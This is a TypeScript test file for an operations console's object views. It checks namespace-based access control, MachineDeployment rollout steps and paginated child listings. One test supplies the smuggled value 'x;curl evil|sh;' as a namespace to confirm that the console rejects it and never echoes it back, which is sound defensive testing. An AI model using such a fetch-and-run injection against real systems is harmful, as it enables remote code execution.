import { describe, expect, it } from "vitest";
import { machinedeploymentSets } from "../../../../functions/machinedeployment/sets.ts";
import { childrenSchema, objectSchema } from "../../../../infra/console/api/object.ts";
import { createExplain } from "../../../../infra/console/sources/explain-source.ts";
import { siblingsOf } from "../../../../infra/operate/explain/sibling-page.ts";
import { createMemoryStore } from "../../../../infra/queue/backends/embedded/store.ts";
import { groupOf, MANAGEMENT } from "../../../../shared/api/kinds.ts";
import { virtualClock } from "../../../support/clock.ts";
import { serveTestConsole } from "../../../support/console.ts";
import { allowingIn, WIDGET_GROW } from "../../../support/console-queue.ts";
import { rollingFacts } from "../../../support/rolling-deployment.ts";
import { WIDGETS, widget } from "../../../support/widget.ts";

describe("objects in the console", () => {
  it("are explained to those who see their namespace, and to no one else", async () => {
    const clock = virtualClock();
    await using store = createMemoryStore();
    await store.put(WIDGETS, [widget()]);
    await store.advance(WIDGETS, { ready: true, resourceVersion: "7" });
    const functions = [WIDGET_GROW];
    const heads = async () => [];
    const explain = createExplain({ store, functions, history: async () => ({}), heads, clock });
    const serve = (...namespaces: readonly string[]) =>
      serveTestConsole({
        clock,
        functions,
        ports: { explain },
        reviewer: allowingIn(...namespaces),
        namespaces: async () => ["default", "other"],
      });
    await using world = await serve("default");
    const ask = (path: string) => world.get(`/objects/${path}`);
    const shown = objectSchema.parse((await ask("widget/default/w")).body);
    expect(shown).toMatchObject({
      kind: "Widget",
      tree: { object: "Widget default/w", functions: [{ function: "widget-grow" }] },
    });
    expect(await ask("widget/default/gone")).toMatchObject({ status: 404 });
    expect(JSON.stringify(await ask("widget/default/gone"))).toContain("--namespace default");
    await using seesAll = await serve("all");
    const link = `/objects/widget/${encodeURIComponent("x;curl evil|sh;")}/w`;
    const refused = await seesAll.get(link);
    expect(refused).toMatchObject({
      status: 404,
      body: { next: expect.stringContaining("--all-namespaces") },
    });
    expect(JSON.stringify(refused)).not.toContain("curl");
    expect(await ask("nothing/default/w")).toMatchObject({ status: 404 });
    expect(await ask("widget/other/w")).toMatchObject({ status: 403 });
    await using foreign = await serve("other");
    const answer = await foreign.get("/objects/widget/default/w");
    expect(answer).toMatchObject({ status: 403 });
  });

  it("show the steps of its rollout, of a MachineDeployment", async () => {
    const clock = virtualClock();
    await using store = createMemoryStore();
    const { deployment, sets, machines } = rollingFacts({});
    for (const object of [deployment, ...sets, ...machines]) {
      const type = { cluster: MANAGEMENT, group: groupOf(object.apiVersion), kind: object.kind };
      await store.put(type, [object]);
      await store.advance(type, { ready: true, resourceVersion: "30" });
    }
    const heads = async () => [];
    const functions = [machinedeploymentSets];
    const explain = createExplain({ store, functions, history: async () => ({}), heads, clock });
    const reviewer = allowingIn("default");
    const namespaces = async () => ["default"];
    await using world = await serveTestConsole({
      clock,
      functions,
      ports: { explain },
      reviewer,
      namespaces,
    });
    const { body } = await world.get("/objects/machinedeployment/default/d1");
    const { limits, rows = [], summary = [] } = objectSchema.parse(body).rollout ?? {};
    expect(limits).toBe("3 Machines, surge 1, unavailable 0: at least 3 available, at most 4");
    expect(rows.map(([step]) => step)).toEqual(["now", "1", "2", "3", "4", "5", "6"]);
    expect(rows[2]?.[2]).toMatch(/^m1 goes, once 1 of d1-\w{5} is available$/);
    expect(summary[0]).toBe("3 Machines are made, 3 deleted; 3 steps wait for new Machines.");
  });
});

const PATH = "/api/v1/objects/widget/default/w/children";

describe("objects behind a tree in the console", () => {
  it("come page by page, and only for those who see the namespace", async () => {
    await using store = createMemoryStore();
    const owner = { apiVersion: "test.dev/v1", kind: "Widget", name: "w", uid: "uid-w", controller: true };
    await store.put(WIDGETS, [widget()]);
    for (const name of ["a", "b", "c"]) {
      await store.put(WIDGETS, [widget({ name, uid: `uid-${name}`, ownerReferences: [owner] })]);
    }
    await store.advance(WIDGETS, { ready: true, resourceVersion: "7" });
    const functions = [WIDGET_GROW];
    await using world = await serveTestConsole({
      functions,
      reviewer: allowingIn("default"),
      namespaces: async () => ["default", "other"],
      ports: {
        children: async (kind, key, selection) => {
          const object = await store.get(WIDGETS, key);
          return object && siblingsOf({ store, functions }, { kind, object }, selection);
        },
      },
    });
    const headers = await world.logIn();
    const ask = (path: string) => world.ask(path, { headers });
    const page = childrenSchema.parse((await ask(`${PATH}?kind=Widget&limit=2`)).body);
    const rest = childrenSchema.parse((await ask(`${PATH}?kind=Widget&limit=2&next=${page.next}`)).body);
    expect([...page.items, ...rest.items].map(({ name }) => name)).toEqual(["a", "b", "c"]);
    expect(rest.next).toBeUndefined();
    expect((await ask(`${PATH}?kind=Widget&state=ready`)).body["items"]).toEqual([]);
    for (const [path, status, field] of [
      [`${PATH}?kind=Nothing`, 400, "kind"],
      [PATH, 400, "kind"],
      [`${PATH}?kind=Widget&next=foreign`, 400, "next"],
      [`${PATH}?kind=Widget&limit=1e9`, 400, "limit"],
      ["/api/v1/objects/widget/default/gone/children?kind=Widget", 404, undefined],
      ["/api/v1/objects/widget/other/w/children?kind=Widget", 403, undefined],
    ] as const) {
      const { status: answered, body } = await ask(path);
      expect([path, answered, body["field"]]).toEqual([path, status, field]);
    }
  });
});
